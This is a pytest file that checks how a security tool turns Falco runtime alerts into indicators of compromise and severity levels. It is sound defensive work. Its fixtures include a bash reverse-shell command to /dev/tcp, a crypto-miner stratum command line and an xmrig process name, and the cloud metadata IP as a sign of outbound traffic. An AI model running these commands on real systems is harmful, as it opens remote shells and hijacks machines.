"""Which indicator an alert of Falco shows."""

from typing import Any

import pytest

from iocaudit.core.severity import IoC, Severity
from iocaudit.signals.audit_event import LinePlace
from iocaudit.signals.falco import FalcoAlert, read_alert
from iocaudit.signals.falco_rules import _NAMES, RULES, indicator_of, message_of, severity_of


def alert(rule: str = "own", priority: str = "Notice", tags: tuple[str, ...] = (), **fields: Any) -> FalcoAlert:
    named = {name.replace("__", "."): value for name, value in fields.items()}
    raw = {"rule": rule, "priority": priority, "tags": list(tags), "output_fields": named, "hostname": "worker-1"}
    return read_alert(raw, LinePlace("x", 1))


@pytest.mark.parametrize(
    ("rule", "ioc"),
    [
        ("Write below etc", IoC.FILESYSTEM_CHANGE),
        ("terminal  shell IN container", IoC.USER_ACTIVITY),
        ("Attach to cluster-admin Role", IoC.CLUSTER_ADMIN),
        ("Drop and execute new binary in container", IoC.UNKNOWN_BINARY),
        ("Create NodePort Service", IoC.INBOUND_TRAFFIC),
    ],
)
def test_by_its_name(rule: str, ioc: IoC) -> None:
    assert indicator_of(alert(rule)) is ioc


@pytest.mark.parametrize(
    ("tags", "ioc"),
    [
        (("T1496",), IoC.RESOURCE_SPIKE),
        (("mitre_exfiltration", "process"), IoC.OUTBOUND_TRAFFIC),
        (("container", "T1611"), IoC.CLUSTER_ADMIN),
        (("filesystem", "process"), IoC.FILESYSTEM_CHANGE),
        (("process",), IoC.UNKNOWN_BINARY),
        (("ioc-8", "process"), IoC.RESPONSE_SIZE),
        (("ioc10",), IoC.HTTP_ERRORS),
        (("host",), None),
    ],
)
def test_an_unknown_rule_by_its_tags(tags: tuple[str, ...], ioc: IoC | None) -> None:
    assert indicator_of(alert(tags=tags)) is ioc


def test_fields_say_more_than_the_name() -> None:
    shell = "Terminal shell in container"
    assert indicator_of(alert(shell, proc__name="xmrig")) is IoC.RESOURCE_SPIKE
    assert indicator_of(alert("own", fd__rip="169.254.169.254")) is IoC.OUTBOUND_TRAFFIC
    assert indicator_of(alert(shell, proc__cmdline="sh -c x -o stratum+tcp://p:1")) is IoC.RESOURCE_SPIKE


def test_severity_follows_the_priority_and_what_was_done() -> None:
    assert severity_of(alert(priority="Critical")) is Severity.HIGH
    assert severity_of(alert(priority="warning")) is Severity.MEDIUM
    assert severity_of(alert(priority="debug")) is Severity.LOW
    assert severity_of(alert(evt__type="openat", fd__name="/etc/kubernetes")) is Severity.HIGH
    assert severity_of(alert(evt__type="openat", fd__name="/data/x")) is Severity.LOW
    assert severity_of(alert(proc__cmdline="bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")) is Severity.HIGH


def test_the_message_names_pod_command_and_user() -> None:
    said = message_of(alert("R", k8s__ns__name="shop", k8s__pod__name="web", proc__cmdline="sh", user__name="root"))
    assert said == "R in Pod shop/web: user root, command sh"
    assert message_of(alert("R", container__id="host")) == "R in node worker-1"


def test_no_rule_has_two_indicators() -> None:
    assert len(RULES) == sum(len([one for one in names.split(";") if one.strip()]) for names in _NAMES.values())
